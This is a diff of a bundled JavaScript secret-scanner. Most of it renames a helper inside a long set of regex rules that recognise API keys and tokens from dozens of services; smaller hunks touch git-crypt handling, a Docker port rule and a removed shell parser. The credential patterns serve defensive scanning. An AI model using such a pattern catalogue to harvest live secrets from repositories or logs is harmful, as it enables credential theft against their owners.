     { name: 'databricks', patterns: [token('databricks-token', 'dapi[a-f0-9]{32}(?:-\\d)?')] },
-    { name: 'snowflake', patterns: [pattern_named('snowflake-password', 'snowflake[_. -]?(?:password|pat|token)', '\\S{8,80}', 'snowflake')] },
+    { name: 'snowflake', patterns: [named('snowflake-password', 'snowflake[_. -]?(?:password|pat|token)', '\\S{8,80}', 'snowflake')] },
 ];
 
 ;// CONCATENATED MODULE: ./lib/credentials/pack/monitoring.js
@@ -42907,7 +43634,7 @@ const monitoring_uuid = '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}';
 const monitoring = [
     {
         name: 'datadog',
-        patterns: [pattern_named('datadog-key', 'datadog|dd[_. -]?api|dd[_. -]?app|ddog', '(?:[a-f0-9]{32}|[a-f0-9]{40})', 'datadog', 'dd')],
+        patterns: [named('datadog-key', 'datadog|dd[_. -]?api|dd[_. -]?app|ddog', '(?:[a-f0-9]{32}|[a-f0-9]{40})', 'datadog', 'dd')],
     },
     {
         // docs.newrelic.com, "New Relic API keys".
@@ -42921,7 +43648,7 @@ const monitoring = [
             token('newrelic-synthetics-key', 'NRSP-[a-z]{2}\\d{2}[A-Za-z0-9]{31,35}'),
             token('newrelic-license-key', '[a-f0-9]{36}NRAL', 'nral'),
             token('newrelic-license-key', '(?:eu|gov)[0-9a-f]{2}xx[a-f0-9]{30,36}(?:NRAL)?', 'xx'),
-            pattern_named('newrelic-license-key', 'new[_. -]?relic|license[_. -]?key', '(?:[a-f0-9]{40}|[a-f0-9]{47})', 'relic', 'license'),
+            named('newrelic-license-key', 'new[_. -]?relic|license[_. -]?key', '(?:[a-f0-9]{40}|[a-f0-9]{47})', 'relic', 'license'),
             token('pixie-key', `px-(?:api|dep)-${monitoring_uuid}`),
         ],
     },
@@ -42930,7 +43657,7 @@ const monitoring = [
         patterns: [
             token('sentry-token', 'sntrys_eyJ[\\w+/=-]{60,500}_[\\w+/-]{43}'),
             token('sentry-token', 'sntryu_[a-f0-9]{64}'),
-            pattern_named('sentry-token', pattern_secretOf('sentry'), '[a-f0-9]{64}', 'sentry'),
+            named('sentry-token', pattern_secretOf('sentry'), '[a-f0-9]{64}', 'sentry'),
             token('sentry-dsn', 'https?://[a-f0-9]{32}:[a-f0-9]{32}@[\\w.-]{1,60}/\\d{1,16}', '://'),
         ],
     },
@@ -42947,23 +43674,23 @@ const monitoring = [
         name: 'honeycomb',
         patterns: [
             token('honeycomb-key', 'hc[abx][iml]k_[a-z0-9]{58,64}', 'hc'),
-            mixed(pattern_named('honeycomb-key', 'honeycomb', '(?:[A-Za-z0-9]{22}|[a-f0-9]{32})')),
+            mixed(named('honeycomb-key', 'honeycomb', '(?:[A-Za-z0-9]{22}|[a-f0-9]{32})')),
         ],
     },
     { name: 'posthog', patterns: [token('posthog-key', 'phx_[A-Za-z0-9_]{43,60}')] },
-    { name: 'splunk', patterns: [pattern_named('splunk-token', 'splunk|hec[_. -]?token', monitoring_uuid, 'splunk', 'hec')] },
-    { name: 'sumologic', patterns: [pattern_named('sumologic-key', pattern_secretOf('sumo'), '[A-Za-z0-9]{64}', 'sumo')] },
+    { name: 'splunk', patterns: [named('splunk-token', 'splunk|hec[_. -]?token', monitoring_uuid, 'splunk', 'hec')] },
+    { name: 'sumologic', patterns: [named('sumologic-key', pattern_secretOf('sumo'), '[A-Za-z0-9]{64}', 'sumo')] },
     {
         name: 'pagerduty',
         patterns: [
-            mixed(pattern_named('pagerduty-key', 'pagerduty|pager_duty|pd_', '(?:u\\+[\\w+-]{18}|[\\w+-]{20})')),
-            pattern_named('pagerduty-key', 'pagerduty|routing[_. -]?key|integration[_. -]?key', '[a-f0-9]{32}', 'pagerduty', 'routing', 'integration'),
+            mixed(named('pagerduty-key', 'pagerduty|pager_duty|pd_', '(?:u\\+[\\w+-]{18}|[\\w+-]{20})')),
+            named('pagerduty-key', 'pagerduty|routing[_. -]?key|integration[_. -]?key', '[a-f0-9]{32}', 'pagerduty', 'routing', 'integration'),
         ],
     },
-    { name: 'opsgenie', patterns: [pattern_named('opsgenie-key', 'opsgenie|geniekey', monitoring_uuid)] },
-    { name: 'rollbar', patterns: [pattern_named('rollbar-token', 'rollbar', '[a-f0-9]{32}')] },
-    { name: 'bugsnag', patterns: [pattern_named('bugsnag-key', 'bugsnag', '[a-f0-9]{32}')] },
-    { name: 'logdna', patterns: [pattern_named('logdna-key', 'logdna|mezmo', '[a-f0-9]{32}')] },
+    { name: 'opsgenie', patterns: [named('opsgenie-key', 'opsgenie|geniekey', monitoring_uuid)] },
+    { name: 'rollbar', patterns: [named('rollbar-token', 'rollbar', '[a-f0-9]{32}')] },
+    { name: 'bugsnag', patterns: [named('bugsnag-key', 'bugsnag', '[a-f0-9]{32}')] },
+    { name: 'logdna', patterns: [named('logdna-key', 'logdna|mezmo', '[a-f0-9]{32}')] },
     { name: 'coralogix', patterns: [token('coralogix-key', 'cxt[ph]_[A-Za-z0-9]{30}', 'cxtp_', 'cxth_')] },
 ];
 
@@ -42983,7 +43710,7 @@ const platforms = [
         name: 'kubernetes',
         patterns: [
             // Authenticating with Bootstrap Tokens: six characters, a dot, sixteen characters.
-            pattern_named('kubernetes-bootstrap-token', '\\btoken|kubeadm|bootstrap', '[a-z0-9]{6}\\.[a-z0-9]{16}', 'token', 'kubeadm', 'bootstrap'),
+            named('kubernetes-bootstrap-token', '\\btoken|kubeadm|bootstrap', '[a-z0-9]{6}\\.[a-z0-9]{16}', 'token', 'kubeadm', 'bootstrap'),
             token('kubernetes-bootstrap-token', '(?<=--(?:discovery-|tls-bootstrap-)?token[ =])[a-z0-9]{6}\\.[a-z0-9]{16}', '--'),
             token('openshift-token', 'sha256~[\\w-]{43}'),
             token('rancher-token', 'token-[a-z0-9]{5}:[a-z0-9]{54}'),
@@ -42995,11 +43722,11 @@ const platforms = [
             token('vault-token', 'hv[sbr]\\.[\\w-]{24,300}', 'hvs.', 'hvb.', 'hvr.'),
             mixed(token('vault-token', '(?<![.$])[sbr]\\.[A-Za-z0-9]{24}(?![.([-])', 's.', 'b.', 'r.')),
             token('vault-unseal-key', '(?<=operator unseal )[A-Za-z0-9+/]{43,44}={0,2}', 'unseal'),
-            pattern_named('vault-unseal-key', 'unseal[_. -]?key', '[A-Za-z0-9+/]{43,44}={0,2}', 'unseal'),
+            named('vault-unseal-key', 'unseal[_. -]?key', '[A-Za-z0-9+/]{43,44}={0,2}', 'unseal'),
             token('terraform-cloud-token', '[A-Za-z0-9]{14}\\.atlasv1\\.[\\w=-]{60,70}', '.atlasv1.'),
-            pattern_named('consul-token', 'consul[_. -]?(?:http[_. -]?)?token', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'consul'),
-            pattern_named('nomad-token', 'nomad[_. -]?token', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'nomad'),
-            pattern_named('vault-secret-id', 'secret[_. -]?id', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'secret'),
+            named('consul-token', 'consul[_. -]?(?:http[_. -]?)?token', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'consul'),
+            named('nomad-token', 'nomad[_. -]?token', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'nomad'),
+            named('vault-secret-id', 'secret[_. -]?id', '[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}', 'secret'),
         ],
     },
     { name: 'pulumi', patterns: [token('pulumi-token', 'pul-[a-f0-9]{40}')] },
@@ -43017,7 +43744,7 @@ const platforms = [
     {
         name: 'wireguard',
         patterns: [
-            pattern_named('wireguard-private-key', 'private[_. -]?key|preshared[_. -]?key', '[A-Za-z0-9+/]{42}[AEIMQUYcgkosw048]=', 'private', 'preshared'),
+            named('wireguard-private-key', 'private[_. -]?key|preshared[_. -]?key', '[A-Za-z0-9+/]{42}[AEIMQUYcgkosw048]=', 'private', 'preshared'),
         ],
     },
     {
@@ -43025,7 +43752,7 @@ const platforms = [
         patterns: [
             token('artifactory-key', 'AKCp[A-Za-z0-9]{69}'),
             token('artifactory-reference-token', 'cmVmd[A-Za-z0-9]{59}'),
-            pattern_named('artifactory-key', 'artifactory|jfrog|x-jfrog-art-api', '[A-Za-z0-9]{73}', 'artifactory', 'jfrog'),
+            named('artifactory-key', 'artifactory|jfrog|x-jfrog-art-api', '[A-Za-z0-9]{73}', 'artifactory', 'jfrog'),
         ],
     },
     { name: 'harness', patterns: [token('harness-token', '[ps]at\\.[\\w-]{22}\\.[0-9a-f]{24}\\.[A-Za-z0-9]{20}', 'pat.', 'sat.')] },
@@ -43037,9 +43764,9 @@ const platforms = [
     },
     {
         name: 'confluent',
-        patterns: [token('confluent-secret', 'cflt[A-Za-z0-9+/]{60}'), mixed(pattern_named('confluent-secret', 'confluent', '[A-Za-z0-9+/]{64}'))],
+        patterns: [token('confluent-secret', 'cflt[A-Za-z0-9+/]{60}'), mixed(named('confluent-secret', 'confluent', '[A-Za-z0-9+/]{64}'))],
     },
-    { name: 'influxdb', patterns: [pattern_named('influxdb-token', 'influx', '[\\w-]{86}==', 'influx')] },
+    { name: 'influxdb', patterns: [named('influxdb-token', 'influx', '[\\w-]{86}==', 'influx')] },
     {
         name: 'elastic',
         patterns: [token('elastic-key', 'essu_[A-Za-z0-9+/]{50,200}={0,2}'), token('elastic-cloud-key', 'essa_[A-Za-z0-9+/]{40,200}={0,2}')],
@@ -43063,7 +43790,7 @@ const pem = {
             const end = dashes < 0 ? text.length : dashes;
             const body = text.slice(bodyStart, end);
             if (hasKey(body))
-                yield { start: match.index, end: closing(text, end) };
+                yield { start: match.index, end: private_keys_closing(text, end) };
         }
     },
 };
@@ -43077,7 +43804,7 @@ function hasKey(body) {
         .replace(/[\s"'+,\\>|#*.;()]/g, '');
     return /^[A-Za-z0-9/=_-]*$/.test(key) && key.length >= shortestKey && new Set(key).size > 16;
 }
-function closing(text, dashes) {
+function private_keys_closing(text, dashes) {
     const footer = /-{4,5} ?END [A-Z0-9 ]{1,60}-{4,5}/y;
     footer.lastIndex = dashes;
     return dashes + (footer.exec(text)?.[0].length ?? 0);
@@ -43129,7 +43856,7 @@ const services = [
     },
     { name: 'razorpay', patterns: [token('razorpay-key', 'rzp_(?:live|test)_[A-Za-z0-9]{14,24}')] },
     { name: 'flutterwave', patterns: [token('flutterwave-key', 'FLWSECK(?:_TEST)?-[a-f0-9]{12,32}-X')] },
-    { name: 'gocardless', patterns: [pattern_named('gocardless-token', 'gocardless', '(?:live|sandbox)_[\\w-]{40}')] },
+    { name: 'gocardless', patterns: [named('gocardless-token', 'gocardless', '(?:live|sandbox)_[\\w-]{40}')] },
     { name: 'plaid', patterns: [token('plaid-token', `access-(?:sandbox|development|production)-${services_uuid}`)] },
     { name: 'shippo', patterns: [token('shippo-token', 'shippo_(?:live|test)_[a-f0-9]{40}')] },
     { name: 'easypost', patterns: [token('easypost-key', 'EZ[AT]K[A-Za-z0-9]{54}', 'ezak', 'eztk')] },
@@ -43144,7 +43871,7 @@ const services = [
         name: 'airtable',
         patterns: [
             token('airtable-token', 'pat[A-Za-z0-9]{14}\\.[a-f0-9]{64}', 'pat'),
-            mixed(pattern_named('airtable-key', 'airtable', 'key[A-Za-z0-9]{14}')),
+            mixed(named('airtable-key', 'airtable', 'key[A-Za-z0-9]{14}')),
         ],
     },
     { name: 'asana', patterns: [token('asana-token', '[012]/\\d{10,20}(?:/\\d{10,20})?:[a-f0-9]{32}', '/')] },
@@ -43152,7 +43879,7 @@ const services = [
         name: 'dropbox',
         patterns: [
             token('dropbox-token', 'sl\\.(?:u\\.)?[\\w-]{120,1500}={0,2}'),
-            pattern_named('dropbox-secret', pattern_secretOf('dropbox'), '[a-z0-9]{15}', 'dropbox'),
+            named('dropbox-secret', pattern_secretOf('dropbox'), '[a-z0-9]{15}', 'dropbox'),
         ],
     },
     { name: 'hubspot', patterns: [token('hubspot-token', `pat-[a-z]{2}\\d-${services_uuid}`)] },
@@ -43164,7 +43891,7 @@ const services = [
     { name: 'frameio', patterns: [token('frameio-token', 'fio-u-[\\w=-]{64}')] },
     {
         name: 'figma',
-        patterns: [token('figma-token', 'fig[dou][rh]?_[\\w-]{40,200}', 'fig'), pattern_named('figma-token', 'figma', `\\d{4,7}-${services_uuid}`)],
+        patterns: [token('figma-token', 'fig[dou][rh]?_[\\w-]{40,200}', 'fig'), named('figma-token', 'figma', `\\d{4,7}-${services_uuid}`)],
     },
     { name: 'adobe', patterns: [token('adobe-secret', 'p8e-[\\w-]{32}')] },
     {
@@ -43173,47 +43900,47 @@ const services = [
             token('facebook-token', 'EAACEdEose0cBA[A-Za-z0-9]{20,300}'),
             token('facebook-token', 'EAA[MC][A-Za-z0-9]{60,300}', 'eaam', 'eaac'),
             token('facebook-app-token', '\\d{13,17}\\|[\\w-]{27}', '|'),
-            pattern_named('facebook-secret', pattern_secretOf('facebook|fb_|fb\\.'), '[a-f0-9]{32}', 'facebook', 'fb_', 'fb.'),
+            named('facebook-secret', pattern_secretOf('facebook|fb_|fb\\.'), '[a-f0-9]{32}', 'facebook', 'fb_', 'fb.'),
         ],
     },
     {
         name: 'twitter',
         patterns: [
             token('twitter-bearer-token', 'A{20,24}[A-Za-z0-9%]{60,120}', 'aaaaaaaaaaaaaaaaaaaa'),
-            mixed(pattern_named('twitter-secret', pattern_secretOf('twitter|tweet|consumer'), '(?:[A-Za-z0-9]{50}|[A-Za-z0-9]{44,45}|\\d{6,20}-[A-Za-z0-9]{40})', 'twitter', 'tweet', 'consumer')),
+            mixed(named('twitter-secret', pattern_secretOf('twitter|tweet|consumer'), '(?:[A-Za-z0-9]{50}|[A-Za-z0-9]{44,45}|\\d{6,20}-[A-Za-z0-9]{40})', 'twitter', 'tweet', 'consumer')),
         ],
     },
     {
         name: 'linkedin',
-        patterns: [mixed(pattern_named('linkedin-secret', pattern_secretOf('linkedin'), '(?:[A-Za-z0-9]{16}|WPL_AP1\\.[\\w.+/=-]{16,60})', 'linkedin'))],
+        patterns: [mixed(named('linkedin-secret', pattern_secretOf('linkedin'), '(?:[A-Za-z0-9]{16}|WPL_AP1\\.[\\w.+/=-]{16,60})', 'linkedin'))],
     },
     { name: 'instagram', patterns: [token('instagram-token', 'IG(?:QV|AA)[\\w-]{80,300}', 'igqv', 'igaa')] },
     {
         name: 'twitch',
         patterns: [
-            pattern_named('twitch-secret', 'twitch', '(?:oauth:)?[a-z0-9]{30}'),
+            named('twitch-secret', 'twitch', '(?:oauth:)?[a-z0-9]{30}'),
             token('twitch-stream-key', 'live_\\d{6,12}_[A-Za-z0-9]{30,40}'),
         ],
     },
-    { name: 'spotify', patterns: [pattern_named('spotify-secret', pattern_secretOf('spotify'), '[a-f0-9]{32}', 'spotify')] },
+    { name: 'spotify', patterns: [named('spotify-secret', pattern_secretOf('spotify'), '[a-f0-9]{32}', 'spotify')] },
     { name: 'mapbox', patterns: [token('mapbox-token', '[st]k\\.eyJ[\\w-]{40,300}\\.[\\w-]{20,100}', 'k.eyj')] },
     {
         name: 'nasa',
         patterns: [
-            mixed(pattern_named('nasa-key', 'nasa', '[A-Za-z0-9]{40}')),
+            mixed(named('nasa-key', 'nasa', '[A-Za-z0-9]{40}')),
             mixed(token('nasa-key', '(?<=api\\.nasa\\.gov/[^\\s"\']{1,100}[?&]api_key=)[A-Za-z0-9]{40}', 'nasa')),
         ],
     },
     {
         name: 'okta',
         patterns: [
-            mixed(pattern_named('okta-token', 'okta|ssws|authorization', '00[\\w-]{40}')),
+            mixed(named('okta-token', 'okta|ssws|authorization', '00[\\w-]{40}')),
             mixed(token('okta-token', '(?<=[sS][sS][wW][sS] )00[\\w-]{40}', 'ssws')),
         ],
     },
-    { name: 'auth0', patterns: [mixed(pattern_named('auth0-secret', `${pattern_secretOf('auth0')}|client[_. -]?secret`, '[\\w-]{64}', 'auth0', 'client'))] },
+    { name: 'auth0', patterns: [mixed(named('auth0-secret', `${pattern_secretOf('auth0')}|client[_. -]?secret`, '[\\w-]{64}', 'auth0', 'client'))] },
     { name: 'stytch', patterns: [token('stytch-secret', 'secret-(?:live|test)-[\\w=-]{32,60}')] },
-    { name: 'algolia', patterns: [pattern_named('algolia-admin-key', 'algolia', '[a-f0-9]{32}')] },
+    { name: 'algolia', patterns: [named('algolia-admin-key', 'algolia', '[a-f0-9]{32}')] },
     {
         name: 'salesforce',
         patterns: [
@@ -43221,22 +43948,22 @@ const services = [
             token('salesforce-refresh-token', '5Aep861[\\w.]{80,140}'),
         ],
     },
-    { name: 'sauce', patterns: [pattern_named('sauce-key', 'sauce', services_uuid)] },
+    { name: 'sauce', patterns: [named('sauce-key', 'sauce', services_uuid)] },
     {
         name: 'segment',
         patterns: [
             token('segment-token', 'sgp_[A-Za-z0-9]{64}'),
-            mixed(pattern_named('segment-key', pattern_secretOf('segment'), '[A-Za-z0-9]{32}', 'segment')),
+            mixed(named('segment-key', pattern_secretOf('segment'), '[A-Za-z0-9]{32}', 'segment')),
         ],
     },
-    { name: 'gitalk', patterns: [pattern_named('gitalk-secret', 'gitalk', '[a-f0-9]{40}')] },
+    { name: 'gitalk', patterns: [named('gitalk-secret', 'gitalk', '[a-f0-9]{40}')] },
     { name: 'adafruit', patterns: [token('adafruit-key', 'aio_[A-Za-z0-9]{28}')] },
     {
         name: 'blynk',
         patterns: [
             token('blynk-token', '(?<=blynk\\.(?:cloud|cc)/(?:external/api/)?[\\w/]{0,40}\\?token=)[\\w-]{32}', 'blynk'),
             token('blynk-token', '(?<=blynk\\.(?:cloud|cc|local):?\\d{0,5}/)[\\w-]{32}(?=/)', 'blynk'),
-            pattern_named('blynk-token', 'blynk', '[\\w-]{32}'),
+            named('blynk-token', 'blynk', '[\\w-]{32}'),
             token('blynk-organization-token', 'oa2-client-id_[\\w-]{32}(?::[\\w-]{32})?'),
         ],
     },
@@ -43244,20 +43971,20 @@ const services = [
         name: 'particle',
         patterns: [
             token('particle-token', '(?<=api\\.particle\\.io/[^\\s"\'`]{1,200}[?&]access_token=)[a-f0-9]{40}', 'particle'),
-            pattern_named('particle-token', 'particle', '[a-f0-9]{40}'),
+            named('particle-token', 'particle', '[a-f0-9]{40}'),
         ],
     },
     {
         name: 'thingsboard',
         patterns: [
             token('thingsboard-token', '(?<=thingsboard\\.(?:cloud|io)[^\\s"\']{0,40}/api/v1/)[A-Za-z0-9]{20}', 'thingsboard'),
-            mixed(pattern_named('thingsboard-token', 'thingsboard', '[A-Za-z0-9]{20}')),
+            mixed(named('thingsboard-token', 'thingsboard', '[A-Za-z0-9]{20}')),
         ],
     },
     {
         name: 'kagi',
         patterns: [
-            mixed(pattern_named('kagi-key', 'kagi', '[\\w-]{11}\\.[\\w-]{43}')),
+            mixed(named('kagi-key', 'kagi', '[\\w-]{11}\\.[\\w-]{43}')),
             mixed(token('kagi-session', '(?<=kagi\\.com/[^\\s"\']{0,60}[?&]token=)[\\w-]{11}\\.[\\w-]{43}', 'kagi')),
         ],
     },
@@ -43417,8 +44144,11 @@ function read_file_documentOf(file, content, policyPath) {
         return { skipped: 'a submodule is not entered' };
     if (content === undefined)
         return { unreadable: 'it was not given by git' };
-    if (content.kind === 'binary')
-        return { skipped: 'binary' };
+    if (content.kind === 'binary') {
+        if (content.encrypted)
+            return { skipped: 'encrypted by git-crypt' };
+        return isNamedStructured(file.path) ? { unreadable: 'it is binary, which no such file is' } : { skipped: 'binary' };
+    }
     if (content.kind === 'text' && lfsPointer.test(content.text))
         return { skipped: 'in Git LFS: what it points to is not here' };
     if (content.kind === 'unreadable')
@@ -43585,6 +44315,7 @@ const problem = (path, tree, reason) => ({
 
 
 
+
 /** Runs the rules on both sides, on the change and on its commits, and tells what is new, what was there and what is gone. */
 async function findDifferences(input, { base, head, pairs, renames }) {
     const { enabledRules: rules, settings, judged } = input;
@@ -43597,7 +44328,7 @@ async function findDifferences(input, { base, head, pairs, renames }) {
     const past = await pastCredentials({ ...input, commits, ends: [base, head] });
     const onPast = runChange(pastRules, past.pairs, past.side, head, settings);
     const enabled = (drafts) => drafts.flatMap((draft) => withSeverity(draft, input) ?? []);
-    const differences = compare(enabled(onBase.drafts), enabled(onHead.drafts), pairs, renames);
+    const differences = compare(enabled(onBase.drafts), enabled(onHead.drafts), pairs, renames, leavesWaiver(input.policy, settings.today));
     // A scan has no base side: everything is judged as it stands.
     const sided = isScan ? differences.map(({ draft }) => ({ draft, status: judged })) : differences;
     const unexcused = await withoutExcused(sided, judged, { tree: input.change.head, documents: head.documents }, input.leftOut);
@@ -43680,7 +44411,7 @@ function strengthAnew(name) {
 
 const otherPlace = /^(?:vault:|secret:|secrets?[./]|ref\+|arn:|op:\/\/|awssm|awsssm|ssm:|gcpsm|azurekv|akv|sm:\/\/|projects\/|file:|env[:.]|path:|keyring|k8s:|bao:|doppler:|infisical:|conjur:|!|enc\[|enc\(|\{cipher\}|\{noop\}$|\$ansible_vault|ag[a-z][a-z0-9+/]{300,}|resolve:|fn::|data\.|var\.|local\.|module\.|process\.env|os\.|system\.|config\.|settings\.|self\.|this\.|getenv|ref:|lookup\(|[a-z][a-z0-9+.-]{1,20}:\/\/)/i;
 const value_path = /^(?:~|\.{0,2})\/[\w.@${}-]|^[A-Za-z]:\\|^[\w.-]+\/[\w./-]+\.(?:\w{1,6})$|\.(?:txt|pem|key|crt|cer|p12|jks|json|ya?ml|env|conf|ini|properties|pub|pfx|gpg|asc|toml|xml|html?|php|py|js|ts|go|rb|java|sh)$/;
-const value_code = /^[\w.]+\(.*\)?;?$|^[\w.]+\[.*\]$|^(?:await|new|function|return|lambda|if|async|typeof)\b|=>|^\w+::\w+|^[a-z]+(?:[A-Z][a-z]+)+\.[a-z]\w*|^&?\w+->/;
+const code = /^[\w.]+\(.*\)?;?$|^[\w.]+\[.*\]$|^(?:await|new|function|return|lambda|if|async|typeof)\b|=>|^\w+::\w+|^[a-z]+(?:[A-Z][a-z]+)+\.[a-z]\w*|^&?\w+->/;
 const typeName = /^(?:string|str|text|number|int|integer|bool|boolean|object|array|any|bytes?|char|varchar\(?\d*\)?|secretstr|securestring|securedstring|sensitive|required|optional|none|null|nil|undefined|true|false|yes|no|on|off|enabled|disabled|unset|empty|auto|generated?|random|prompt|ask|interactive|keyring|basic|bearer|oauth2?|plain|md5|scram-sha-256|trust|peer|cert|header|query|cookie|body|username|login|email|name|field|input|hidden|label|title|key|value|masked|ldap|saml|oidc|jwt|hmac|files|compat|sss|systemd|nis|sha256|sha512|bcrypt|argon2|aes|rsa)$/i;
 const publicForm = /^(?:-----BEGIN (?:[A-Z ]*PUBLIC KEY|CERTIFICATE)|ssh-(?:rsa|ed25519|dss) |ecdsa-sha2-|sha(?:1|256|384|512)[-:]|pk_(?:live|test)_|LS0tLS1CRUdJTiBDRVJUSUZJQ0FUR|LS0tLS1CRUdJTiBQVUJM|MII[A-Za-z0-9+/]{40})/;
 /** As in a list of packages, of which `secret` may be one. */
@@ -43692,7 +44423,7 @@ function isLiteral(value) {
         return false;
     if ((0,placeholder/* isVariable */.DZ)(value) || (0,placeholder/* isSpokenPlaceholder */.IL)(value) || otherPlace.test(value) || value_path.test(value))
         return false;
-    return !value_code.test(value) && !typeName.test(value) && !publicForm.test(value) && !value_version.test(value) && !/^(.)\1*$/.test(value);
+    return !code.test(value) && !typeName.test(value) && !publicForm.test(value) && !value_version.test(value) && !/^(.)\1*$/.test(value);
 }
 /** Words with a sign between them, one of which speaks of credentials: the name of a Secret or of a key in it. */
 const isNameOfSecret = (value) => /^[a-z][a-z0-9]*(?:[-_./][a-z0-9]+)*$/i.test(value) &&
@@ -43842,7 +44573,7 @@ const publicKey = /(?:^|[-_.])(?:user|username|usr|login|host|hostname|hosts|por
 function judgeSecret({ name, value, place, secretType = 'Opaque' }) {
     const keys = secretKeys[secretType];
     const decoded = place === 'secret-data' ? decode(value.replace(/\s/g, '')) : value;
-    if (decoded === '' || isEncrypted(value) || (keys !== undefined && !keys.test(name)))
+    if (decoded === '' || judge_isEncrypted(value) || (keys !== undefined && !keys.test(name)))
         return null;
     const isBinary = !base64_isText(decoded);
     if (isBinary)
@@ -43862,7 +44593,7 @@ function judgeOpaque(name, value, strength) {
     return looksRandom(value) ? 'kubernetes-secret' : value.length >= 6 ? 'possible-credential' : null;
 }
 /** SOPS, sealed and templated values are safe in the open, or are not there yet. */
-const isEncrypted = (value) => /ENC\[|\{\{|\$\{|^<[^>]*>$|^Ag[A-Za-z][A-Za-z0-9+/]{300,}/.test(value);
+const judge_isEncrypted = (value) => /ENC\[|\{\{|\$\{|^<[^>]*>$|^Ag[A-Za-z][A-Za-z0-9+/]{300,}/.test(value);
 /** Unlike other values, one in a Secret may be a whole file or a sentence. */
 const isWritten = (value) => value.includes('\n') || value.includes('{')
     ? !/BEGIN CERTIFICATE|BEGIN PUBLIC|\{\{|\$\{/.test(value)
@@ -43886,7 +44617,7 @@ async function readSides(change, rules, isExcluded, policyPath) {
         ...files.flatMap(({ file, was, is }) => {
             const side = is ?? was;
             const reason = side?.skipped ?? side?.document?.unread;
-            return reason === undefined ? [] : { path: sides_pathOf(file), reason };
+            return reason ? { path: sides_pathOf(file), reason } : [];
         }),
     ];
     const readsEstate = rules.some((rule) => rule.on === 'estate' && (rule.reads ?? []).some((kind) => [...base, ...head].some((document) => document.kind === kind)));
@@ -45034,8 +45765,9 @@ const everywhere = /^(?:0\.0\.0\.0|\[?::\]?)$/;
     id: 'compose/port-on-all-interfaces',
     severity: 'medium',
     threat: 'container',
+    strictly: 'every such port; else only those of databases and of ways to administer.',
     summary: 'A port is published on all interfaces of the host',
-    why: "Docker opens it past the host's firewall: whoever reaches the host reaches the service. Told for databases and ways to administer; for every port in strict mode.",
+    why: "Docker opens it past the host's firewall: whoever reaches the host reaches the service.",
     instead: 'Publish it on one address (`127.0.0.1:5432:5432`), or not at all: services of one network reach each other without.',
     references: [composeService('ports'), docker('engine/network/packet-filtering-firewalls/', 'packet filtering and firewalls'), cwe(668)],
     peers: ['kics:container_traffic_not_bound_to_host_interface', 'dclint:no-unbound-port-interfaces'],
@@ -45336,13 +46068,13 @@ const archive = /\.(?:tar|tgz|tbz2?|txz|tzst|gz|bz2|xz|zst|Z|lzma)$/i;
 ;// CONCATENATED MODULE: ./lib/documents/without-versions.js
 /** A version, a date, a build's number, a commit. */
 const without_versions_version = /\b(?=[a-f]*\d)[0-9a-f]{7,}\b|\bv?\d[\w.+-]*/gi;
-const without_versions_address = /(\w+:\/\/[^/\s"'<>|;&)]+)([^\s"'<>|;&)]*)/g;
+const address = /(\w+:\/\/[^/\s"'<>|;&)]+)([^\s"'<>|;&)]*)/g;
 /**
  * The addresses in a text without the versions in their paths, else the whole text without versions: what stays when only a
  * version is raised, or the address is asked for by https. A host keeps its numbers.
  */
 function withoutVersions(text) {
-    const addresses = [...text.matchAll(without_versions_address)].map(([, host = '', path = '']) => host.replace(/^http:/i, 'https:') + path.replace(without_versions_version, '#'));
+    const addresses = [...text.matchAll(address)].map(([, host = '', path = '']) => host.replace(/^http:/i, 'https:') + path.replace(without_versions_version, '#'));
     return addresses.length > 0 ? addresses.join(' ') : text.replace(without_versions_version, '#');
 }
 
@@ -45374,658 +46106,6 @@ const add_remote_commit = /#[0-9a-f]{40}(?::|$)|[?&](?:commit|checksum)=[0-9a-f]
         }
     },
 }));
-
-;// CONCATENATED MODULE: ./lib/documents/shell-words.js
-/** Deeper substitutions are skipped unread. */
-const shell_words_maxDepth = 40;
-const shell_words_isBlank = (char) => char === ' ' || char === '\t' || char === '\r' || char === '\0';
-const endsWord = (char) => shell_words_isBlank(char) || char === '\n' || ';&|()<>'.includes(char);
-const isName = (char) => /\w/.test(char);
-/** A position in the script, shared by the readers of words and of lists. */
-class Cursor {
-    text;
-    locate;
-    at;
-    depth;
-    constructor(text, locate, depth = 0, at = 0) {
-        this.text = text;
-        this.locate = locate;
-        this.depth = depth;
-        this.at = at;
-    }
-    get char() {
-        return this.text[this.at] ?? '';
-    }
-    get done() {
-        return this.at >= this.text.length;
-    }
-    starts(prefix) {
-        return this.text.startsWith(prefix, this.at);
-    }
-    /** The offset behind the next `close`, or the end. */
-    behind(close, from = this.at) {
-        const found = this.text.indexOf(close, from);
-        return found < 0 ? this.text.length : found + close.length;
-    }
-    /** Skips blanks, NUL, and line breaks after a backslash. */
-    skipBlanks() {
-        for (; !this.done; this.at++) {
-            if (this.char === '\\' && /^\r?\n/.test(this.text.slice(this.at + 1, this.at + 3)))
-                this.at += this.text[this.at + 1] === '\r' ? 2 : 1;
-            else if (!shell_words_isBlank(this.char))
-                return;
-        }
-    }
-}
-/** Reads one word; `operators` are taken as ordinary characters inside `[[ … ]]`. */
-class WordReader {
-    #cursor;
-    #readList;
-    #value = '';
-    #literal = true;
-    #quoted = false;
-    #commands = [];
-    constructor(cursor, readList) {
-        this.#cursor = cursor;
-        this.#readList = readList;
-    }
-    /** Null where no word starts. */
-    read() {
-        const cursor = this.#cursor;
-        const start = cursor.at;
-        while (!cursor.done) {
-            if (cursor.starts('<(') || cursor.starts('>(')) {
-                if (cursor.at > start)
-                    break;
-                this.#substitution(2);
-            }
-            else if (endsWord(cursor.char) && cursor.char !== '\0')
-                break;
-            else
-                this.#part();
-        }
-        if (cursor.at === start)
-            return null;
-        return {
-            value: this.#value,
-            span: { start: cursor.locate(start), end: cursor.locate(cursor.at) },
-            literal: this.#literal,
-            quoted: this.#quoted,
-            commands: this.#commands,
-            content: this.#content(start),
-        };
-    }
-    #content(start) {
-        const { text, at, locate } = this.#cursor;
-        const quote = text[start];
-        const inner = text.slice(start + 1, at - 1);
